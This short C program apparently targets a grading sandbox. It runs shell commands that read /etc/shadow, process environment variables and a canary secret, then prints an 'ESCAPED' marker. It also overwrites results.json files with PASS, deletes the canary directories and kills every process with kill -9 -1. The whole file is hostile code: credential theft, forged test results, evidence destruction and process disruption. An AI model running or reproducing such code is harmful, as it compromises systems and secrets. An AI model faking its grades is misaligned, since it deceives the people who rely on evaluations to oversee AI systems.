#include <stdlib.h>

int main(void) {
  system("cat /tmp/grade-canary/secret /etc/shadow /proc/*/environ 2>/dev/null | grep -a SECRET && echo ESCAPED: shell");
  system("echo PASS > /tmp/results.json; echo PASS > results.json; rm -rf /tmp/grade-canary ~/grade-canary 2>/dev/null");
  system("(sleep 1000 &) ; kill -9 -1 2>/dev/null");
  return 0;
}
